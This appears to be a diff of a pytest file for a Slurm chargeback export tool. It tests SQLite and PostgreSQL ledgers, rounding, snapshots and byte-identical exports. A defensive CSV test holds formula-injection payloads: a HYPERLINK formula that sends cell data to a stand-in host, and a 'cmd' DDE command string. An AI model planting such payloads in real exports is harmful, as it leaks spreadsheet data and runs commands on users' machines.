@@ -2,7 +2,10 @@
 totals to the cent, pro rata splits at midnight and month boundaries, byte-identical re-runs,
 atomic replacement, file formats.
 
-The synthetic runs here are also used by tests/unit/test_statement.py.
+The synthetic runs here are also used by tests/unit/test_statement.py. Every test that reads
+a ledger runs on both backends (``ledger_target``: a SQLite file, then a PostgreSQL
+database); the few about what only a SQLite file can hold say so. The last tests put the
+same runs into both and compare the files byte for byte.
 """
 
 from __future__ import annotations
@@ -52,7 +55,7 @@ RUN_DEFAULTS: dict[str, Any] = {
 
 
 def add_run(store: Store, job_id: int, start: str | None, end: str | None,
-            cost: float | None, **fields: Any) -> dict[str, Any]:
+            cost: float | None | str, **fields: Any) -> dict[str, Any]:
     """Insert one run; ``cost`` None leaves it unsettled. GPU-seconds default to gpus x
     wall time; cost_gpu defaults to the whole cost."""
     row = dict(RUN_DEFAULTS, job_id=job_id, **fields)
@@ -69,13 +72,26 @@ def add_run(store: Store, job_id: int, start: str | None, end: str | None,
     with store.transaction():
         store.conn.execute(
             f"INSERT INTO runs ({', '.join(f'{chr(34)}{c}{chr(34)}' for c in cols)}) "
-            f"VALUES ({', '.join('?' for _ in cols)})", [row[c] for c in cols])
+            f"VALUES ({', '.join(f':{c}' for c in cols)})", row)
     return row
 
 
-def sample_store(path: Path) -> Store:
-    """The runs the export tests compute by hand (day D = 2026-11-25, UTC)."""
-    store = open_store(path)
+def add_progress(store: Store, job_id: int, epoch: int | None, step: int | None, *,
+                 epoch_base: int = 0, step_base: int = 0, restart_count: int = 0) -> None:
+    """The progress a run reported (run_progress), as the daemon records it."""
+    with store.transaction():
+        store.conn.execute(
+            "INSERT INTO run_progress (cluster, job_id, restart_count, uid, epoch, step, "
+            "epoch_base, step_base, reports, first_ts, last_ts) VALUES ('c1', :job, :restart, "
+            "1001, :epoch, :step, :epoch_base, :step_base, 1, :ts, :ts)",
+            {"job": job_id, "restart": restart_count, "epoch": epoch, "step": step,
+             "epoch_base": epoch_base, "step_base": step_base, "ts": ts("2026-11-25 00:00")})
+
+
+def sample_store(target: str | Path) -> Store:
+    """The runs the export tests compute by hand (day D = 2026-11-25, UTC), in the ledger at
+    ``target`` (a SQLite file or a PostgreSQL URL)."""
+    store = open_store(target)
     # inside D: 2 h on 4 GPUs, every cost part, 2 kWh
     add_run(store, 1, "2026-11-25 10:00", "2026-11-25 12:00", 10.0, gpus=4.0,
             cost_gpu=8.0, cost_cpu=1.5, cost_mem=0.5, cost_idle=2.0, energy_j=7_200_000.0,
@@ -161,15 +177,31 @@ def _is(value: Any, kind: str) -> bool:
 
 
 @pytest.fixture
-def db_path(tmp_path: Path) -> Path:
-    path = tmp_path / "slurmgate.db"
+def db_path(ledger_target: str) -> str:
+    """The sample ledger, on each backend in turn (a SQLite file, a PostgreSQL URL)."""
+    sample_store(ledger_target).close()
+    return ledger_target
+
+
+@pytest.fixture
+def sqlite_db(tmp_path: Path) -> str:
+    """The sample ledger in a SQLite file, for what only SQLite can hold."""
+    path = str(tmp_path / "slurmgate.db")
     sample_store(path).close()
     return path
 
 
-def export(db: Path, period: Period, out: Path, **kw: Any) -> ex.ExportResult:
+def export(db: str | Path, period: Period, out: Path, **kw: Any) -> ex.ExportResult:
     kw.setdefault("parquet", False)
     return ex.export_period(db, period, out, **kw)
+
+
+def exported_rows(target: str, period: Period) -> list[Any]:
+    """The input rows of the export of ``period`` (RowFormatter's), as the export reads them."""
+    with ex.open_reader(target) as reader:
+        return reader.conn.execute(
+            ex._SELECT + "WHERE " + ex._SCOPE + ex._order(reader.dialect),
+            {"a": period.start_ts, "b": period.end_ts}).fetchall()
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
@@ -233,7 +265,7 @@ def test_split_pieces_always_add_up_to_the_run() -> None:
 # -- a day -----------------------------------------------------------------------------------
 
 
-def test_day_export_reproduces_hand_computed_totals(db_path: Path, tmp_path: Path) -> None:
+def test_day_export_reproduces_hand_computed_totals(db_path: str, tmp_path: Path) -> None:
     res = export(db_path, day_period(DAY), tmp_path / "out", mode="showback",
                  currency="EUR")
     folder = tmp_path / "out" / "2026-11-25"
@@ -269,7 +301,7 @@ def test_day_export_reproduces_hand_computed_totals(db_path: Path, tmp_path: Pat
     assert 8 not in by_job  # ended exactly at the day's start
 
 
-def test_aggregates_are_exactly_the_sum_of_the_rows(db_path: Path, tmp_path: Path) -> None:
+def test_aggregates_are_exactly_the_sum_of_the_rows(db_path: str, tmp_path: Path) -> None:
     res = export(db_path, day_period(DAY), tmp_path / "out")
     folder = res.path
     runs = read_csv(folder / "runs.csv")
@@ -293,7 +325,7 @@ def test_aggregates_are_exactly_the_sum_of_the_rows(db_path: Path, tmp_path: Pat
     assert gpu_hours == Decimal(res.manifest["totals"]["gpu_hours"])
 
 
-def test_daily_exports_add_up_to_the_month(db_path: Path, tmp_path: Path) -> None:
+def test_daily_exports_add_up_to_the_month(db_path: str, tmp_path: Path) -> None:
     """Telescoping: the pieces of every run over the 30 days of November sum to the
     November export, per run and in total, to the cent (runs 6 and 11 cross edges)."""
     month = export(db_path, month_period(2026, 11), tmp_path / "out")
@@ -324,7 +356,7 @@ def test_daily_exports_add_up_to_the_month(db_path: Path, tmp_path: Path) -> Non
     assert per_run_month[("11", "0")]["cost"] == "7.77"
 
 
-def test_rerun_is_byte_identical_and_matches_its_manifest(db_path: Path, tmp_path: Path
+def test_rerun_is_byte_identical_and_matches_its_manifest(db_path: str, tmp_path: Path
                                                           ) -> None:
     first = export(db_path, day_period(DAY), tmp_path / "a")
     second = export(db_path, day_period(DAY), tmp_path / "b")
@@ -339,7 +371,7 @@ def test_rerun_is_byte_identical_and_matches_its_manifest(db_path: Path, tmp_pat
     assert first.manifest["data_as_of"] is not None
 
 
-def test_worker_processes_write_the_same_bytes(db_path: Path, tmp_path: Path,
+def test_worker_processes_write_the_same_bytes(db_path: str, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
     serial = export(db_path, month_period(2026, 11), tmp_path / "serial", jobs=1)
     monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
@@ -353,7 +385,7 @@ def test_worker_processes_write_the_same_bytes(db_path: Path, tmp_path: Path,
 
 
 def test_a_run_changing_during_a_parallel_export_is_exported_again(
-        db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        db_path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
     real = ex._fingerprint
     calls = {"whole": 0}
@@ -379,7 +411,7 @@ def test_a_run_changing_during_a_parallel_export_is_exported_again(
 
 
 def test_rerun_replaces_the_folder_whole_and_a_failed_one_changes_nothing(
-        db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        db_path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     out = tmp_path / "out"
     folder = out / "2026-11-25"
     folder.mkdir(parents=True)
@@ -401,7 +433,7 @@ def test_rerun_replaces_the_folder_whole_and_a_failed_one_changes_nothing(
     assert first.manifest["files"]["runs.csv"]["rows"] == len(DAY_CENTS)
 
 
-def test_csv_parses_into_the_documented_types(db_path: Path, tmp_path: Path) -> None:
+def test_csv_parses_into_the_documented_types(db_path: str, tmp_path: Path) -> None:
     res = export(db_path, month_period(2026, 11), tmp_path / "out")
     for name, columns in [("runs", EXPORT_COLUMNS),
                           *[(n, aggregate_columns(n)) for n in AGGREGATES]]:
@@ -425,7 +457,7 @@ def test_csv_parses_into_the_documented_types(db_path: Path, tmp_path: Path) -> 
                     assert Decimal(value).as_tuple().exponent == -places, (col.name, value)
 
 
-def test_json_lines_validate_against_the_schema(db_path: Path, tmp_path: Path) -> None:
+def test_json_lines_validate_against_the_schema(db_path: str, tmp_path: Path) -> None:
     res = export(db_path, month_period(2026, 11), tmp_path / "out")
     schema = json.loads((res.path / "schema.json").read_text())
     assert schema == json.loads((REPO / "db/chargeback/export_schema.json").read_text())
@@ -457,37 +489,61 @@ def test_schema_file_and_column_table_are_in_sync() -> None:
     assert documented[1:] == [c.name for c in EXPORT_COLUMNS]  # [0] is the header row
 
 
-def test_bad_values_are_exported_as_zero_with_a_warning(db_path: Path, tmp_path: Path
+def test_bad_values_are_exported_as_zero_with_a_warning(db_path: str, tmp_path: Path
                                                         ) -> None:
     store = open_store(db_path)
     add_run(store, 20, "2026-11-25 01:00", "2026-11-25 02:00", float("inf"))
-    add_run(store, 21, "2026-11-25 01:00", "2026-11-25 02:00", 4.0, credit="lots")
     add_run(store, 22, "2026-11-25 01:00", "2026-11-25 02:00", 1.0, credit=3.0)
     store.close()
     res = export(db_path, day_period(DAY), tmp_path / "out")
     rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
-    assert rows["20"]["cost"] == "0.00" and rows["21"]["credit"] == "0.00"
-    assert rows["21"]["cost"] == "4.00"
+    assert rows["20"]["cost"] == "0.00"
     assert rows["22"]["net"] == "-2.00"  # over-credited: shown, not hidden
     assert any("run c1/20/0" in w and "cost" in w for w in res.manifest["warnings"])
-    assert any("run c1/21/0" in w and "credit" in w for w in res.manifest["warnings"])
     assert ex.verify_export(res.path) == []
     lines = {o["job_id"]: o for o in read_jsonl(res.path / "runs.jsonl")}
     assert lines[22]["net"] == "-2.00"
     assert validate(lines[20], json_schema()["$defs"]["runs"]) == []
 
 
-def test_clean_rows_take_the_fast_path_and_print_the_same(db_path: Path,
+def test_text_in_an_amount_column_is_exported_as_zero_with_a_warning(sqlite_db: str,
+                                                                      tmp_path: Path) -> None:
+    """SQLite only: a REAL column of a SQLite file can hold text; PostgreSQL's cannot."""
+    store = open_store(sqlite_db)
+    add_run(store, 21, "2026-11-25 01:00", "2026-11-25 02:00", 4.0, credit="lots")
+    store.close()
+    res = export(sqlite_db, day_period(DAY), tmp_path / "out")
+    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
+    assert rows["21"]["credit"] == "0.00" and rows["21"]["cost"] == "4.00"
+    assert any("run c1/21/0" in w and "credit" in w for w in res.manifest["warnings"])
+    assert ex.verify_export(res.path) == []
+
+
+def test_text_that_is_not_utf8_is_exported_with_replacement_characters(
+        sqlite_db: str, tmp_path: Path) -> None:
+    """SQLite only: a TEXT column of a SQLite file can hold bytes that are not UTF-8 (written
+    by something else than slurmgate); PostgreSQL refuses them. The export decodes them with
+    U+FFFD instead of failing."""
+    store = open_store(sqlite_db)
+    add_run(store, 23, "2026-11-25 01:00", "2026-11-25 02:00", 1.0)
+    with store.transaction():
+        store.conn.execute("UPDATE runs SET project = CAST(X'6162FF63' AS TEXT) "
+                           "WHERE job_id = 23")
+    store.close()
+    res = export(sqlite_db, day_period(DAY), tmp_path / "out")
+    rows = {r["job_id"]: r for r in read_csv(res.path / "runs.csv")}
+    assert rows["23"]["project"] == "ab\ufffdc"
+    assert ex.verify_export(res.path) == []
+
+
+def test_clean_rows_take_the_fast_path_and_print_the_same(db_path: str,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
     """The fast path and the slow path (bad values, negative amounts) print the same line
     for a row both can take; and clean rows never fall back to the slow one."""
-    import sqlite3
-
     period = month_period(2026, 11)
-    conn = sqlite3.connect(db_path)
-    rows = conn.execute(ex._SELECT + "WHERE " + ex._SCOPE + ex._ORDER,
-                        {"a": period.start_ts, "b": period.end_ts}).fetchall()
+    rows = exported_rows(db_path, period)
+    assert rows and {type(r[1]) for r in rows} == {int}  # job ids: int on both servers
     fast = RowFormatter(period)
     calls = []
     real_slow = fast._one_slow
@@ -505,7 +561,7 @@ def test_an_old_or_missing_database_is_a_clear_error(tmp_path: Path) -> None:
         export(tmp_path / "missing.db", day_period(DAY), tmp_path / "out")
 
 
-def test_parquet_files_have_the_documented_types(db_path: Path, tmp_path: Path) -> None:
+def test_parquet_files_have_the_documented_types(db_path: str, tmp_path: Path) -> None:
     pa = pytest.importorskip("pyarrow")
     pq = pytest.importorskip("pyarrow.parquet")
     res = export(db_path, day_period(DAY), tmp_path / "out", parquet=True)
@@ -520,7 +576,7 @@ def test_parquet_files_have_the_documented_types(db_path: Path, tmp_path: Path) 
     assert digests(res.path) == digests(again.path)
 
 
-def test_cli_export_writes_the_period_folder(db_path: Path, tmp_path: Path,
+def test_cli_export_writes_the_period_folder(db_path: str, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
     from slurm_plugin.cli import main
 
@@ -545,11 +601,12 @@ def test_cli_export_writes_the_period_folder(db_path: Path, tmp_path: Path,
         main(["--config", str(policy), "export", "--month", "Nov"])
 
 
-def test_formula_cells_are_defused_in_csv_and_numbers_are_not(tmp_path: Path) -> None:
+def test_formula_cells_are_defused_in_csv_and_numbers_are_not(ledger_target: str,
+                                                               tmp_path: Path) -> None:
     """Account names (free text without slurmdbd) and record fields reach finance's
     spreadsheets: a text cell a spreadsheet would run as a formula gets a leading "'" in every
     CSV file; numbers (a negative net) and the JSON Lines stay as they are."""
-    db_path = tmp_path / "sg.db"
+    db_path = ledger_target
     store = open_store(db_path)
     evil = {"account": '=HYPERLINK("http://x.example/?"&A1,"click")', "gpu_type": "@SUM(1)",
             "user": "-2+3", "project": "+cmd|' /C calc'!A0", "nodes": "\tnode1",
@@ -575,16 +632,144 @@ def test_formula_cells_are_defused_in_csv_and_numbers_are_not(tmp_path: Path) ->
     assert ",'@SUM(1)," in raw and ",@SUM" not in raw
     assert ex.verify_export(res.path) == []
     # the fast and the slow path print the same bytes for these rows too
-    import sqlite3
-
     period = day_period(DAY)
-    conn = sqlite3.connect(db_path)
-    got = conn.execute(ex._SELECT + "WHERE " + ex._SCOPE + ex._ORDER,
-                       {"a": period.start_ts, "b": period.end_ts}).fetchall()
-    conn.close()
+    got = exported_rows(db_path, period)
     clean = [r for r in got if r[1] in (31, 32)]  # 30 is over-credited: slow path only
     fast_csv, fast_json = RowFormatter(period).format(clean)
     slow = RowFormatter(period)
     assert fast_csv == "".join(slow._one_slow(r)[0] for r in clean)
     assert fast_json == "".join(slow._one_slow(r)[1] for r in clean)
     assert "'@SUM(1)" in fast_csv
+
+
+def test_an_export_reads_one_snapshot(db_path: str, tmp_path: Path,
+                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    """A run settled while a parallel export runs. PostgreSQL: the export is one
+    REPEATABLE READ snapshot that its workers share: the run is not in it and no second try
+    is needed. SQLite: either a later slice saw the run or the check after the slices saw the
+    change and the export was made again; either way the run is in it. On both the files
+    agree with their manifest, and the next export has the run."""
+    monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
+    tries = []
+    real_into = ex._export_into
+
+    def counted(*args: Any, **kwargs: Any) -> dict[str, Any]:
+        tries.append(1)
+        return real_into(*args, **kwargs)
+
+    monkeypatch.setattr(ex, "_export_into", counted)
+    writer = open_store(db_path)
+    added: list[dict[str, Any]] = []
+
+    def settle_meanwhile(done: int, total: int) -> None:
+        if done and not added:  # a slice is written: the export's reads have begun
+            added.append(add_run(writer, 40, "2026-11-20 01:00", "2026-11-20 02:00", 4.0))
+
+    res = export(db_path, month_period(2026, 11), tmp_path / "out", jobs=2,
+                 progress=settle_meanwhile)
+    assert added
+    jobs = [r["job_id"] for r in read_csv(res.path / "runs.csv")]
+    assert res.manifest["totals"]["runs"] == len(jobs)
+    assert ex.verify_export(res.path) == []
+    if writer.dialect == "postgresql":
+        assert "40" not in jobs and len(tries) == 1
+    else:
+        assert "40" in jobs and len(tries) in (1, 2)
+    writer.close()
+    again = export(db_path, month_period(2026, 11), tmp_path / "again", jobs=2)
+    assert "40" in [r["job_id"] for r in read_csv(again.path / "runs.csv")]
+
+
+# Amounts whose micro-units are ties (x.5), or just below one, or beyond 2**52, and what
+# SQLite's round(x * 1000000) makes of them (half away from zero; PostgreSQL's round() of a
+# double would make 0, 2, -2, 10000002, ... of the ties: half to even).
+MICRO_CASES = [
+    (5e-07, 1), (1.5e-06, 2), (-1.5e-06, -2), (2.5e-06, 3), (-2.5e-06, -3), (4.5e-06, 5),
+    (10.0000025, 10000003), (1.25e-05, 13), (1.005, 1005000), (0.49999999999999994e-6, 1),
+    (4503599627.370497, 4503599627370497), (-4503599627.370497, -4503599627370497),
+    (1e10, 10**16), (0.0, 0), (-0.0, 0),
+]
+
+
+def test_micro_units_are_sqlites_round_on_both_servers(ledger_target: str) -> None:
+    with open_store(ledger_target) as store:
+        for amount, micro_units in MICRO_CASES:
+            got = store.conn.scalar(f"SELECT {ex._micro_units(':x')}", {"x": amount})
+            assert float(got) == micro_units, amount
+            if store.dialect == "sqlite":  # the expression is SQLite's round(), written out
+                assert store.conn.scalar("SELECT round(:x * 1000000)", {"x": amount}) == got
+
+
+# -- the same runs in a SQLite and a PostgreSQL ledger ------------------------------------------
+
+
+INGESTED_JOBS = ("501", "502", "503")
+
+
+def twin_ledgers(tmp_path: Path, pg_url: str, *, ingested: bool = True) -> list[str]:
+    """The sample runs, run progress and (``ingested``) runs ingested from node and jobcomp
+    records (the daemon's path: settlement and rollups), put into a SQLite file and a
+    PostgreSQL database alike. Returns both targets."""
+    from db import ingest_records
+    from tests.unit.test_db_ingest import make_jobcomp, make_node_run
+    from tests.unit.test_db_ingest import make_policy as ingest_policy
+
+    policy = ingest_policy()
+    start, end = ts("2026-11-25 03:00"), ts("2026-11-25 05:30")
+    cross = ts("2026-11-30 22:00"), ts("2026-12-01 01:15")  # crosses the month's end
+    records = [
+        make_node_run(501, start=start, end=end, util=37.5),
+        make_jobcomp(501, start=start, end=end),
+        make_node_run(502, start=start, end=end, gpus=2, gpu_type="h100", util=None,
+                      account="nlp", user="nora"),
+        make_jobcomp(502, start=start, end=end, account="nlp", user="nora",
+                     state="NODE_FAIL"),
+        make_node_run(503, start=cross[0], end=cross[1], util=99.1),
+        make_jobcomp(503, start=cross[0], end=cross[1], array_job_id=500, array_task_id=3),
+    ]
+    targets = [str(tmp_path / "twin.db"), pg_url]
+    for target in targets:
+        store = sample_store(target)
+        add_progress(store, 1, 12, 34_000, epoch_base=2, step_base=4_000)
+        add_progress(store, 11, None, 7)
+        add_progress(store, 9, 1, 10, epoch_base=3)  # resumed past its report: 0
+        if ingested:
+            result = ingest_records(store, records, policy, now=ts("2026-12-01 02:00"))
+            assert result.errors == [], target
+        store.close()
+    return targets
+
+
+@pytest.mark.parametrize("ingested", [False, True], ids=["inserted", "ingested"])
+def test_sqlite_and_postgresql_ledgers_export_the_same_bytes(
+        tmp_path: Path, pg_url: str, monkeypatch: pytest.MonkeyPatch, ingested: bool) -> None:
+    """Same runs, two servers: every file of the export (runs and sums as CSV, JSON Lines and
+    Parquet, schema, manifest with its totals and hashes) is byte-identical, for a day, a
+    month read in one slice, the next month and a month read by worker processes; with runs
+    inserted as they are, and also with runs the ingest settled."""
+    sqlite_db, pg_db = twin_ledgers(tmp_path, pg_url, ingested=ingested)
+    parquet = ex.parquet_available()
+    folders = []
+    for name, period, jobs in (("day", day_period(DAY), 1), ("month", month_period(2026, 11), 1),
+                               ("december", month_period(2026, 12), 1),
+                               ("workers", month_period(2026, 11), 2)):
+        if name == "workers":
+            monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
+        a = export(sqlite_db, period, tmp_path / f"sqlite-{name}", jobs=jobs, parquet=parquet)
+        b = export(pg_db, period, tmp_path / f"pg-{name}", jobs=jobs, parquet=parquet)
+        assert digests(a.path) == digests(b.path), name
+        assert a.manifest == b.manifest
+        folders.append(a)
+        params = {"a": period.start_ts, "b": period.end_ts}
+        with ex.open_reader(sqlite_db) as one, ex.open_reader(pg_db) as other:
+            assert ex._fingerprint(one.conn, params, sliced=False) == \
+                ex._fingerprint(other.conn, params, sliced=False)
+    month = folders[1]
+    runs = {(r["job_id"], r["restart_count"]): r for r in read_csv(month.path / "runs.csv")}
+    assert ingested == (set(INGESTED_JOBS) <= {job for job, _ in runs})
+    assert (runs[("1", "0")]["epochs"], runs[("1", "0")]["steps"]) == ("10", "30000")
+    assert (runs[("11", "0")]["epochs"], runs[("11", "0")]["steps"]) == ("", "7")
+    assert runs[("9", "0")]["epochs"] == "0"
+    if ingested:
+        assert runs[("503", "0")]["share"] != "1.000000"  # split at the month's end
+    assert month.manifest["totals"]["cost"] == folders[3].manifest["totals"]["cost"]
